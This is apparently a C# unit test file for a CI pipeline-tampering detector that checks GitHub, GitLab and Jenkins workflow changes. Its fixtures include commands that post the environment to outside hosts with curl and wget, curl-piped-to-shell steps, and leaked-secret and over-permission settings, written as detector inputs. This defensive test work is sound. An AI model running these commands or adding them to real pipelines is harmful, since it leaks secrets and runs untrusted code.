using PipeWatch.Detectors.CodeChange;
using PipeWatch.Findings;
using PipeWatch.Tests.Support;
using Xunit;

namespace PipeWatch.Tests.Detectors.CodeChange;

/// <summary>The pipeline-tampering detector over commits: whole file when added, only what changed afterwards, learn-only silence, every platform.</summary>
public sealed class PipelineTamperingDetectorTests
{
    private const string Path = ".github/workflows/ci.yml";
    private static readonly DateTimeOffset Monday = new(2026, 11, 2, 10, 0, 0, TimeSpan.FromHours(1));

    private const string Ci = CodeChangeHistory.CleanWorkflow;

    private readonly CommitBench _bench = new();
    private readonly PipelineTamperingDetector _detector = new();

    [Fact]
    public void A_clean_workflow_added_and_edited_harmlessly_raises_nothing_but_the_step_change()
    {
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci)));
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci.Replace("make test", "make test-all", StringComparison.Ordinal))));
        Assert.Empty(_bench.Findings);
        var lint = Ci.Replace("make test", "make test-all", StringComparison.Ordinal) + """
                  - name: Lint
                    run: make lint

            """;

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, lint)));

        var change = Assert.Single(_bench.Findings);
        Assert.Equal(("pipeline-tampering.steps-changed", Severity.Info, 14, "Lint"), (change.Rule, change.Severity, change.Location.Line!.Value, change.Entity.Step));
        Assert.Contains("'Lint' added after 'Test'", change.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void A_step_posting_the_environment_to_an_outside_host_is_reported_at_its_line_with_the_step_change()
    {
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci)));
        var tampered = Ci + """
                  - name: Upload diagnostics
                    run: curl -s -d "$(env)" https://collect.example.net/d

            """;
        var commit = _bench.Commit(CommitBench.Person("Mallory", Monday.AddHours(16)), (Path, tampered));

        _bench.Run(_detector, commit);

        Assert.Equal(
            [("pipeline-tampering.secrets-exfiltration", Severity.Critical, 15, "Upload diagnostics"), ("pipeline-tampering.steps-changed", Severity.Info, 14, "Upload diagnostics")],
            _bench.Findings.Select(f => (f.Rule, f.Severity, f.Location.Line!.Value, f.Entity.Step)));
        var finding = _bench.Findings[0];
        Assert.Equal(Categories.PipelineTampering, finding.Category);
        Assert.Equal(new Location(File: Path, Line: 15, Commit: commit.Sha), finding.Location);
        Assert.Equal(new Entity(CommitBench.Repository, Path, "build", "Upload diagnostics", "mallory@example.com"), finding.Entity);
        Assert.Contains("'Upload diagnostics' added after 'Test'", _bench.Findings[1].Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void An_issue_the_file_already_had_is_not_reported_again_when_the_file_changes()
    {
        var unpinned = Ci.Replace("actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2", "actions/checkout@v4", StringComparison.Ordinal);
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, unpinned)));
        var first = Assert.Single(_bench.Findings);
        Assert.Equal(("pipeline-tampering.unpinned-action", 9), (first.Rule, first.Location.Line));

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, "# CI for the project\n" + unpinned)));

        Assert.Single(_bench.Findings);
    }

    [Fact]
    public void Commits_before_the_scanned_range_are_learned_from_and_report_nothing()
    {
        var risky = Ci.Replace("make build", "curl -fsSL https://get.example.com | sh", StringComparison.Ordinal);
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, risky)), learnOnly: true);
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, risky.Replace("make test", "make check", StringComparison.Ordinal))));

        Assert.DoesNotContain(_bench.Findings, f => f.Rule != "pipeline-tampering.steps-changed");
    }

    [Fact]
    public void A_tag_comment_pinned_to_a_different_sha_than_the_repository_used_before_is_a_mismatch()
    {
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci)));
        var other = Ci.Replace("11bd71901bbe5b1630ceea73d27597364c9af683", "0123456789abcdef0123456789abcdef01234567", StringComparison.Ordinal);

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Bob", Monday), (".github/workflows/release.yml", other)));

        var finding = Assert.Single(_bench.Findings);
        Assert.Equal(("pipeline-tampering.pin-tag-mismatch", ".github/workflows/release.yml", 9), (finding.Rule, finding.Location.File, finding.Location.Line));
        Assert.Contains("already pins actions/checkout v4.2.2 to 11bd71901bbe5b1630ceea73d27597364c9af683", finding.Explanation, StringComparison.Ordinal);
    }

    [Fact]
    public void A_bot_bump_to_a_sha_other_versions_contradict_is_reported_as_a_whole_parse_reports_it()
    {
        // The bump only replaces the pin: the new version's model is derived from the previous one (ValueChange), not parsed.
        var bumped = Ci.Replace("11bd71901bbe5b1630ceea73d27597364c9af683", "0123456789abcdef0123456789abcdef01234567", StringComparison.Ordinal);
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci)));

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("renovate[bot]", Monday), (Path, bumped)));

        var pins = new PipeWatch.Detectors.CodeChange.PipelineTampering.ActionPins();
        var first = Parse(Ci);
        PipelineTamperingDetector.Inspect(null, first, pins);
        var expected = PipelineTamperingDetector.Inspect(first, Parse(bumped), pins);
        Assert.Equal(expected.Select(i => (i.Rule, i.Line, i.Step)), _bench.Findings.Select(f => (f.Rule, f.Location.Line!.Value, f.Entity.Step)));
        Assert.Contains(_bench.Findings, f => f.Rule == "pipeline-tampering.pin-tag-mismatch" && f.Location.Line == 9);

        static PipeWatch.Detectors.CodeChange.Workflows.CiDefinition Parse(string text) =>
            PipeWatch.Detectors.CodeChange.Workflows.CiDefinitionParser.Parse(Path, text, PipeWatch.Detectors.CodeChange.Workflows.CiPlatform.GitHubWorkflow, out _)!;
    }

    [Fact]
    public void Pull_request_target_checking_out_the_head_sha_is_untrusted_checkout_and_a_new_trigger()
    {
        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, Ci)));
        var target = Ci.Replace("on: [push, pull_request]", "on: [push, pull_request_target]", StringComparison.Ordinal)
            .Replace("# v4.2.2\n", "# v4.2.2\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n", StringComparison.Ordinal);

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, target)));

        Assert.Equal(
            [("pipeline-tampering.untrusted-checkout", Severity.High, 11), ("pipeline-tampering.new-trigger", Severity.Medium, 2)],
            _bench.Findings.Select(f => (f.Rule, f.Severity, f.Location.Line!.Value)));
    }

    [Fact]
    public void Debug_logging_write_all_and_set_x_with_secrets_are_reported()
    {
        var risky = Ci.Replace("permissions:\n  contents: read", "permissions: write-all\nenv:\n  ACTIONS_RUNNER_DEBUG: true", StringComparison.Ordinal)
            .Replace("run: make build", "run: |\n          set -x\n          ./deploy --token ${{ secrets.DEPLOY_TOKEN }}", StringComparison.Ordinal);

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (Path, risky)));

        Assert.Equal(
            [("pipeline-tampering.debug-logging", 5), ("pipeline-tampering.debug-logging", 13), ("pipeline-tampering.permissions-widened", 3)],
            _bench.Findings.Select(f => (f.Rule, f.Location.Line!.Value)));
    }

    [Fact]
    public void Gitlab_jobs_inherit_a_download_and_execute_script_through_a_merge_key()
    {
        const string gitlab = """
            .setup: &setup
              before_script:
                - curl -sL https://install.example.com/setup.sh | bash

            build:
              <<: *setup
              image: node:20
              script:
                - npm ci

            """;

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), (".gitlab-ci.yml", gitlab)));

        Assert.Equal(
            [
                ("pipeline-tampering.download-and-execute", 3, ".setup"),
                ("pipeline-tampering.download-and-execute", 3, "build"),
                ("pipeline-tampering.unpinned-image", 7, "build"),
            ],
            _bench.Findings.Select(f => (f.Rule, f.Location.Line!.Value, f.Entity.Job)));
    }

    [Fact]
    public void A_jenkinsfile_sh_step_sending_the_environment_out_is_reported_at_its_line()
    {
        const string jenkinsfile = """
            pipeline {
              agent any
              stages {
                stage('Build') {
                  steps {
                    sh 'make'
                    sh 'wget --post-data="$(env)" http://203.0.113.9/x'
                  }
                }
              }
            }

            """;

        _bench.Run(_detector, _bench.Commit(CommitBench.Person("Alice", Monday), ("Jenkinsfile", jenkinsfile)));

        var finding = Assert.Single(_bench.Findings);
        Assert.Equal(("pipeline-tampering.secrets-exfiltration", 7, "Build › wget --post-data=\"$(env)\" http://203.0.113.9/x"), (finding.Rule, finding.Location.Line, finding.Entity.Step));
    }

    [Fact]
    public void Files_that_are_not_ci_definitions_or_not_valid_yaml_are_skipped()
    {
        _bench.Run(_detector, _bench.Commit(
            CommitBench.Person("Alice", Monday),
            ("scripts/install.sh", "curl https://x.example.com | bash\n"),
            (".github/workflows/broken.yml", "jobs: [unclosed\n  - run: curl https://x.example.com | bash\n")));

        Assert.Empty(_bench.Findings);
    }
}
